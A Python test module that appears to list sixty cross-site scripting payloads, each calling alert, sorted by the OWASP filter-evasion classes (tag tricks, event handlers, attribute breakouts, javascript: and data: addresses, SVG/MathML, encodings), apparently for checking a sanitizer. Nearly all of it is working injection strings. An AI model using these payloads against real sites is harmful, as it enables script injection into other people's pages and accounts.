"""Sixty ways to make a page run a script that it was only to show, by what they try to break out of.

Each calls `alert`, which the browser of the tests notes as a dialog. Written after the classes of the OWASP cheat
sheet on filter evasion: elements, attributes, addresses, SVG and MathML, comments and raw text, encodings, CSS.
"""

PAYLOADS = (
    # elements
    "<script>alert(1)</script>", "<SCRIPT>alert(2)</SCRIPT>", "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script/x>alert(4)</script>", "<script\n>alert(5)</script\n>", "</title><script>alert(6)</script>",
    "</style><script>alert(7)</script>", "</textarea><script>alert(8)</script>", "<script src=data:,alert(9)></script>",
    "<script type=module>alert(10)</script>", "<script>alert`11`</script>", "<<script>alert(12)//<</script>",
    # handlers
    "<img src=x onerror=alert(13)>", "<img src=x:x onerror=alert(14)//", "<body onload=alert(15)>",
    "<input autofocus onfocus=alert(16)>", "<details open ontoggle=alert(17)>", "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)>", "<marquee onstart=alert(20)>", "<select autofocus onfocus=alert(21)>",
    "<style onload=alert(22)></style>", "<img/src/onerror=alert(23)>", "<img src=`x`onerror=alert(24)>",
    "<image src=x onerror=alert(25)>", "<p tabindex=0 autofocus onfocus=alert(26)>x", "<object data=x onerror=alert(27)>",
    # out of an attribute
    '" autofocus onfocus=alert(28) x="', "' autofocus onfocus=alert(29) x='", '"><script>alert(30)</script>',
    "'><img src=x onerror=alert(31)>", '" style="animation-name:x" onanimationstart="alert(32)', "` onmouseover=alert(33) `",
    '"/><svg onload=alert(34)>', "x\" href=\"javascript:alert(35)", "--><img src=x onerror=alert(36)>",
    # addresses
    "javascript:alert(37)", "JaVaScRiPt:alert(38)", "java\tscript:alert(39)", " javascript:alert(40)",
    "javascript://example.org/%0aalert(41)", "data:text/html,<script>alert(42)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0Myk8L3NjcmlwdD4=", "vbscript:alert(44)", "https://example.org/\"onclick=\"alert(45)",
    "https://example.org/'><script>alert(46)</script>", "<a href=javascript:alert(47)>x</a>",
    # SVG, MathML and frames
    "<svg onload=alert(48)>", "<svg><script>alert(49)</script></svg>", "<svg><animate onbegin=alert(50) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(51)><text>x</text></a></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(52)>",
    "<iframe src=javascript:alert(53)></iframe>", "<iframe srcdoc='<script>parent.alert(54)</script>'></iframe>",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=alert(55)></foreignObject></svg>",
    # encodings, comments, styles, redirections
    "&lt;script&gt;alert(56)&lt;/script&gt;", "\\u003cscript\\u003ealert(57)\\u003c/script\\u003e", "<!--<img src=\"--><img src=x onerror=alert(58)//\">",
    "<meta http-equiv=refresh content='0;url=javascript:alert(59)'>", "<base href=javascript:alert(60)//><link rel=stylesheet href=x>",
)  # fmt: skip
